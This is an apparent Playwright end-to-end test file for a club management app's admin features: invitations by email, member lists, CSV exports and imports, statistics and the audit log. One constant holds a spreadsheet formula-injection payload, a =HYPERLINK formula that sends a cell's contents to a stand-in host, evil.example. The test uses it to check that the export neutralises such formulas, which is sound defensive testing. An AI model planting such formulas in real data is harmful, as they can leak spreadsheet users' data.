/**
 * Club admin, members and exports: the demo manager signs in with 2FA,
 * invites someone by email, the invitee creates their account through the emailed link and
 * appears in the member list; the members CSV export holds a `=HYPERLINK(…)` member as inert text.
 */
import { readFile } from "node:fs/promises";
import { expect, test, e2eDatabase } from "./fixtures";
import { emailLink, PASSWORD, signInStaff, uniqueEmail } from "./auth-helpers";
import { expectNoSeriousA11yViolations } from "./booking-helpers";

const EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';

test("a manager invites a member who accepts by email, and exports the members as safe CSV", async ({
  page,
  browser,
}) => {
  test.setTimeout(90_000);
  const evilEmail = uniqueEmail("formula");
  const db = await e2eDatabase();
  try {
    await db.query(
      `WITH u AS (INSERT INTO app_user (email, name, email_verified_at) VALUES ($1, $2, now()) RETURNING id)
       INSERT INTO membership (user_id, club_id, role) SELECT u.id, c.id, 'PLAYER' FROM u, club c WHERE c.slug = 'demo'`,
      [evilEmail, EVIL_NAME],
    );
  } finally {
    await db.end();
  }

  // The demo manager signs in with a TOTP code and lands on the members screen.
  await signInStaff(page, "manager", { next: "/c/demo/admin/members" });
  await expect(page).toHaveURL(/\/c\/demo\/admin\/members$/);
  await expect(page.getByRole("heading", { name: /^Members of / })).toBeVisible();
  await expect(page.getByRole("link", { name: "Members" })).toHaveAttribute("aria-current", "page");

  // Invite by email.
  const invitee = uniqueEmail("invitee");
  const invite = page.getByRole("form", { name: "Invite a member" });
  await invite.getByLabel("Email address").fill(invitee);
  await invite.getByLabel("Name (optional)").fill("Ivy Invitee");
  await invite.getByLabel("Role").selectOption("PLAYER");
  await invite.getByLabel("Tier").selectOption({ label: "Standard" });
  await page.getByRole("button", { name: "Send invitation" }).click();
  await expect(page.getByText(`Invitation sent to ${invitee}.`)).toBeVisible();
  await expect(page.getByRole("heading", { name: "Pending invitations" })).toBeVisible();
  await expect(page.getByText(`Ivy Invitee · ${invitee} · Player · Standard`)).toBeVisible();
  await expectNoSeriousA11yViolations(page, "the members page");

  // The invitee opens the emailed link in their own browser and creates an account.
  const link = await emailLink(invitee, "member-invitation");
  expect(link).toMatch(/^\/invite\?token=[A-Za-z0-9_-]{43}$/);
  const other = await browser.newContext();
  try {
    const guest = await other.newPage();
    await guest.goto(link);
    await expect(
      guest.getByRole("heading", { name: "Join Demo Tennis & Padel Club" }),
    ).toBeVisible();
    await expect(guest.getByText(invitee)).toBeVisible();
    await expectNoSeriousA11yViolations(guest, "the invitation page");
    await guest.getByLabel("Your name").fill("Ivy Invitee");
    await guest.getByLabel("Password").fill(PASSWORD);
    await guest.getByRole("button", { name: "Create my account and join" }).click();
    await expect(guest.getByText(/Welcome! Your account for .* is ready/)).toBeVisible();
    // The link works once.
    await guest.goto(link);
    await expect(guest.getByText(/This invitation link is no longer valid/)).toBeVisible();
  } finally {
    await other.close();
  }

  // The new member is in the list, active, with the invited tier.
  await page.goto("/c/demo/admin/members");
  const row = page.getByRole("row", { name: /Ivy Invitee/ });
  await expect(row).toContainText(invitee);
  await expect(row).toContainText("active");
  await expect(row.getByLabel("Tier", { exact: true })).toHaveValue(/[0-9a-f-]{36}/);
  await expect(row.getByLabel("Tier", { exact: true }).locator("option:checked")).toHaveText(
    "Standard",
  );

  // Members export: the formula member comes out inert.
  await page.getByRole("link", { name: "Exports" }).click();
  await expect(page.getByRole("heading", { name: "Exports" })).toBeVisible();
  await expectNoSeriousA11yViolations(page, "the exports page");
  const [download] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("link", { name: "Download members (CSV)" }).click(),
  ]);
  expect(download.suggestedFilename()).toMatch(/^demo-members-\d{4}-\d{2}-\d{2}\.csv$/);
  const bytes = await readFile((await download.path())!);
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = bytes.subarray(3).toString("utf8");
  expect(text.split("\r\n")[0]).toBe("Name,Email,Role,Tier,Status,Valid until,Member since");
  expect(text).toContain(
    `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")",${evilEmail},PLAYER,`,
  );
  expect(text).toContain(`Ivy Invitee,${invitee},PLAYER,Standard,ACTIVE,`);
  expect(text).not.toMatch(/(^|,|\r\n)=HYPERLINK/);

  // Bookings export of a period downloads too.
  const [bookings] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("button", { name: "Download bookings (CSV)" }).click(),
  ]);
  expect(bookings.suggestedFilename()).toMatch(/^demo-bookings-.*\.csv$/);
  const bookingText = (await readFile((await bookings.path())!)).toString("utf8");
  expect(bookingText.startsWith("\uFEFFDate,Start,End,Court,Status,Booked by")).toBe(true);
});

test("statistics and the audit log show the club's numbers and events", async ({ page }) => {
  test.setTimeout(90_000);
  await signInStaff(page, "manager", { next: "/c/demo/admin/audit" });
  await expect(page).toHaveURL(/\/c\/demo\/admin\/audit$/);
  await expect(page.getByRole("heading", { name: "Audit log" })).toBeVisible();
  await page.getByLabel("Action").selectOption("admin.member.invited");
  await page.getByRole("button", { name: "Filter" }).click();
  await expect(page).toHaveURL(/action=admin\.member\.invited/);
  await expect(page.getByRole("cell", { name: "admin.member.invited" }).first()).toBeVisible();
  await expectNoSeriousA11yViolations(page, "the audit log");

  await page.getByRole("link", { name: "Statistics" }).click();
  await expect(page.getByRole("heading", { name: "Statistics" })).toBeVisible();
  await expect(page.getByRole("heading", { name: "Occupancy by court" })).toBeVisible();
  await expect(page.getByRole("rowheader", { name: "Monday" })).toBeVisible();
  await expect(page.getByTestId("stats-totals")).toContainText(/\d+ bookings/);
  await expectNoSeriousA11yViolations(page, "the statistics page");

  // CSV import: a preview with row-level errors, nothing written; then a good file, confirmed.
  await page.getByRole("link", { name: "Members" }).click();
  const a = uniqueEmail("import-a");
  const b = uniqueEmail("import-b");
  await page
    .getByLabel("Or paste the CSV text")
    .fill(`name,email,tier,role,valid until\nAnn,${a},Gold,player,\n`);
  await page.getByRole("button", { name: "Check the file" }).click();
  await expect(page.getByText('No tier is called "Gold"', { exact: false })).toBeVisible();
  await expect(page.getByRole("button", { name: /Invite these/ })).toHaveCount(0);
  await page.getByLabel("Or paste the CSV text").fill("");
  await page.getByLabel("CSV file", { exact: true }).setInputFiles({
    name: "members.csv",
    mimeType: "text/csv",
    buffer: Buffer.from(
      `\uFEFFname,email,tier,role,valid until\r\nAnn Import,${a},Standard,player,2030-06-30\r\n"Bob, Jr.",${b},,staff,\r\n`,
    ),
  });
  await page.getByRole("button", { name: "Check the file" }).click();
  const preview = page.getByRole("table", { name: /Preview \(2 rows\)/ });
  await expect(preview.getByRole("row", { name: /Bob, Jr\./ })).toContainText("OK");
  await page.getByRole("button", { name: "Invite these 2 members" }).click();
  await expect(page.getByText("2 invitation(s) created, 2 emailed.")).toBeVisible();
  expect(await emailLink(b, "member-invitation")).toMatch(/^\/invite\?token=/);
  await page.reload();
  await expect(page.getByText(`Bob, Jr. · ${b} · Staff`)).toBeVisible();
});
